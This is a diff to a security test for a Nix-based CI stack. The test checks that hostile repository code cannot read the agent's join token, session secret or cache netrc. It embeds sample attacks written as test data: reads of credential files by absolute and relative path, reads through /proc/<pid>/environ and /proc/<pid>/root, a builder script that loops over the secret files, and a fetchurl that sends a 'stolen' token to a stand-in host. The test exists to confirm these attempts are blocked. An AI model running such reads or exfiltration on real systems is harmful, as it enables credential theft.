@@ -1,8 +1,9 @@
 /**
  * Evaluated code is hostile (docs/security.md), through the whole local stack: a repository
- * whose ci.nix reads the agent's cluster join token and session by absolute and relative path,
- * through /proc, or tries to send them out, gets evaluation errors naming Nix's restricted mode;
- * its builder cannot read them either; and neither secret appears in any table, any API answer,
+ * whose ci.nix reads the agent's cluster join token, session, or the netrc holding its read key
+ * for the built-in cache by absolute and relative path, through /proc, or tries to send them
+ * out, gets evaluation errors naming Nix's restricted mode;
+ * its builder cannot read them either; and none of them appears in any table, any API answer,
  * the CLI's output, the stack's log or the agent's log.
  */
 import assert from "node:assert/strict";
@@ -11,6 +12,7 @@ import { existsSync } from "node:fs";
 import { readFile } from "node:fs/promises";
 import { join } from "node:path";
 import { after, before, describe, it } from "node:test";
+import { sessionCacheKeyFromSecret } from "@nimbus/cache";
 import { JobView } from "@nimbus/protocol";
 import { tables, type TableName } from "@nimbus/service/resource-specs";
 import { runCli, startAgentProcess, type AgentProcess } from "./support/agent-process.ts";
@@ -26,6 +28,7 @@ describe("a repository's code cannot reach the agent's secrets (real stack, real
   let agent: AgentProcess;
   let token: string;
   let sessionSecret: string;
+  let cacheKey: string;
   const stackLog: string[] = [];
   const env = () => ({ NIMBUS_PORT: String(stack.port), NIMBUS_DATA_DIR: stack.dataDir });
 
@@ -38,6 +41,10 @@ describe("a repository's code cannot reach the agent's secrets (real stack, real
     await eventually(async () => (existsSync(sessionFile) ? true : undefined), "the session file");
     sessionSecret = (JSON.parse(await readFile(sessionFile, "utf8")) as { secret: string }).secret;
     assert.ok(token.length > 20 && sessionSecret.length > 20);
+    cacheKey = sessionCacheKeyFromSecret(sessionSecret);
+    const netrc = await readFile(join(agent.dir, "work", "private", "netrc"), "utf8");
+    assert.ok(netrc.includes(cacheKey), "the agent reads the built-in cache with its session's read key");
+    assert.ok(!netrc.includes(sessionSecret), "…and the netrc never holds the session secret itself");
   });
   after(async () => {
     agent?.child.kill("SIGKILL");
@@ -62,9 +69,10 @@ describe("a repository's code cannot reach the agent's secrets (real stack, real
   it("gives each read an evaluation error naming the restriction, and a builder cannot read them", async () => {
     const tokenFile = join(agent.dir, "token.key");
     const sessionFile = join(agent.dir, "work", "session.json");
+    const netrcFile = join(agent.dir, "work", "private", "netrc");
     const pid = agent.child.pid!;
     const builderScript = [
-      `for f in ${tokenFile} ${sessionFile} /proc/${pid}/environ; do`,
+      `for f in ${tokenFile} ${sessionFile} ${netrcFile} /proc/${pid}/environ; do`,
       '  if read -r line < "$f"; then echo "read $f: $line"; else echo "cannot read $f"; fi',
       "done",
       "echo done > $out",
@@ -77,6 +85,8 @@ describe("a repository's code cannot reach the agent's secrets (real stack, real
         sessionAbsolute = mk "c" (builtins.readFile "${sessionFile}");
         sessionRelative = mk "d" (builtins.readFile ../../../session.json);
         procRoot = mk "e" (builtins.readFile "/proc/${pid}/root${tokenFile}");
+        netrcAbsolute = mk "h" (builtins.readFile "${netrcFile}");
+        netrcRelative = mk "i" (builtins.readFile ../../../private/netrc);
         procEnviron = mk "f" (builtins.readFile "/proc/${pid}/environ");
         sendOut = mk "g" "cat \${builtins.fetchurl "https://example.invalid/?token=stolen"}";
         nixpkgs = (import <nixpkgs> { }).hello;
@@ -86,7 +96,7 @@ describe("a repository's code cannot reach the agent's secrets (real stack, real
     const job = await finished(await trigger(repo.path));
     assert.equal(job.status, "failed", "attribute errors fail the job");
     const byName = Object.fromEntries(job.attributes.map((a) => [a.path.join("."), a]));
-    for (const name of ["tokenAbsolute", "tokenRelative", "sessionAbsolute", "sessionRelative", "procRoot", "procEnviron", "sendOut"]) {
+    for (const name of ["tokenAbsolute", "tokenRelative", "sessionAbsolute", "sessionRelative", "procRoot", "procEnviron", "sendOut", "netrcAbsolute", "netrcRelative"]) {
       assert.equal(byName[name]?.status, "error", name);
       assert.match(byName[name]!.error ?? "", RESTRICTED, `${name}: ${byName[name]!.error}`);
       assert.match(byName[name]!.error ?? "", HINT, name);
@@ -97,7 +107,7 @@ describe("a repository's code cannot reach the agent's secrets (real stack, real
     const drvPath = byName.builderReads!.drvPath!;
     const log = await stack.api("GET", `/api/derivations/${encodeURIComponent(drvPath)}/log`);
     assert.equal(log.status, 200);
-    for (const f of [tokenFile, sessionFile, `/proc/${pid}/environ`]) {
+    for (const f of [tokenFile, sessionFile, netrcFile, `/proc/${pid}/environ`]) {
       assert.ok((log.body.lines as string[]).includes(`cannot read ${f}`), `the builder read ${f}: ${JSON.stringify(log.body.lines)}`);
     }
   });
@@ -116,6 +126,7 @@ describe("a repository's code cannot reach the agent's secrets (real stack, real
     const look = (where: string, text: string) => {
       if (text.includes(token)) found.push(`the token in ${where}`);
       if (text.includes(sessionSecret)) found.push(`the session secret in ${where}`);
+      if (text.includes(cacheKey)) found.push(`the session's cache read key in ${where}`);
     };
     for (const table of Object.keys(tables) as TableName[]) look(`table ${table}`, JSON.stringify(await stack.scan(table)));
 
@@ -124,6 +135,8 @@ describe("a repository's code cannot reach the agent's secrets (real stack, real
       "/api/service-info": (await stack.api("GET", "/api/service-info")).body,
       "/api/agents": (await stack.api("GET", "/api/agents")).body,
       "/api/tokens": (await stack.api("GET", "/api/tokens")).body,
+      "/api/cache": (await stack.api("GET", "/api/cache")).body,
+      "/api/cache/tokens": (await stack.api("GET", "/api/cache/tokens")).body,
       "/api/jobs": jobs,
     };
     for (const { id } of jobs.jobs) {
